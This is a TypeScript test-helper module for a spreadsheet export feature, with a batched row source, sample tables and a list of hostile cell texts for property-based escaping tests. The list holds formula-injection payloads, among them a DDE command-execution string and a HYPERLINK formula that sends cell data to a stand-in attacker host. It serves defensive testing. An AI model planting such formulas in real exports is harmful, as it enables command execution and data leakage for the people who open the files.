import fc from "fast-check";
import type { Cell, TableFile } from "#lib/server/export/table.ts";

/** For tests: a table whose rows arrive in batches, with counters of what its reader did. */
export interface Source {
  rows: AsyncIterable<readonly (readonly Cell[])[]>;
  counts: { asked: number; returned: number };
}

export function source(batches: Iterable<readonly (readonly Cell[])[]>): Source {
  const counts = { asked: 0, returned: 0 };
  const each = batches[Symbol.iterator]();
  const iterator = {
    async next() {
      counts.asked += 1;
      return each.next();
    },
    async return() {
      counts.returned += 1;
      return { done: true as const, value: undefined };
    },
  };
  return { rows: { [Symbol.asyncIterator]: () => iterator }, counts };
}

export function tableOf(
  rows: readonly (readonly Cell[])[],
  columns = Math.max(1, ...rows.map((row) => row.length)),
): TableFile {
  return {
    sheetName: "Payments",
    columns: Array.from({ length: columns }, (_, index) => ({
      title: `Column ${index + 1}`,
      width: 16,
    })),
    rows: source([rows]).rows,
    timeZone: "Asia/Almaty",
  };
}

export function text(value: string): Cell {
  return { type: "text", value };
}

/** Endless batches of a hundred rows with fifteen cells that do not compress well. */
export function* endless(): Generator<readonly (readonly Cell[])[]> {
  for (;;) {
    yield Array.from({ length: 100 }, () =>
      Array.from({ length: 15 }, () => text(`${Math.random()}`)),
    );
  }
}

export async function bytesOf(stream: ReadableStream<Uint8Array>): Promise<Buffer> {
  return Buffer.from(await new Response(stream).arrayBuffer());
}

/** Texts that break exports, as they occur in names and descriptions on purpose or by accident. */
export const HOSTILE = [
  "=1+1",
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  "+1+1",
  "-1+1",
  "-",
  "@SUM(1+1)",
  "\t=1",
  " =1",
  "\u00a0=1",
  "\r=1",
  "\n=1",
  "'=1",
  '"=1',
  "«=1",
  "\u200b=1",
  "\ufeff=1",
  "\u202e=1",
  "\u2066+1",
  "\u0000=1",
  "\u0001=1",
  "\ud800=1",
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1",
  "\uff20SUM(1)",
  "\u22121+1",
  "a;=1+1",
  "a,=1+1",
  "a\t=1+1",
  "a\n=1+1",
  'a";"=1+1',
  "=1;=1,=1\t=1",
  "\u0000",
  "\tx",
  "\rx",
  "a\u0000b\u001bc\u007fd\u0085e",
  "a\ud800b\udc00c",
  "\ufffe\uffff",
  "👍🏽 Қазақстан ₸ \u{20000}",
  "‮12.00‬",
  "<b>&amp;</b>",
  "]]>",
  "<![CDATA[=1]]>",
  "&#61;1&lt;",
  "_x003D_1+1",
  "_x005F_x003D_1",
  "line\r\nline\rline\nline",
  ' "quoted", and; more ',
  "000123",
  "1e5",
  "2024-03-01",
  "12.10",
  "TRUE",
  "#REF!",
  "x".repeat(40_000),
  `${"x".repeat(32_765)}👍👍`,
  `=${"\t".repeat(40_000)}`,
] as const;

/** Any text, with many characters that the writers must escape. */
export const anyText = fc
  .array(
    fc.oneof(
      fc.constantFrom(...HOSTILE.filter(({ length }) => length < 100)),
      fc.constantFrom(..."=+-@\t\r\n\0'\",;_x<&> ", "\ud800", "\u200b", "_x0041_"),
      fc.string({ unit: "binary" }),
    ),
    { maxLength: 6 },
  )
  .map((parts) => parts.join(""));
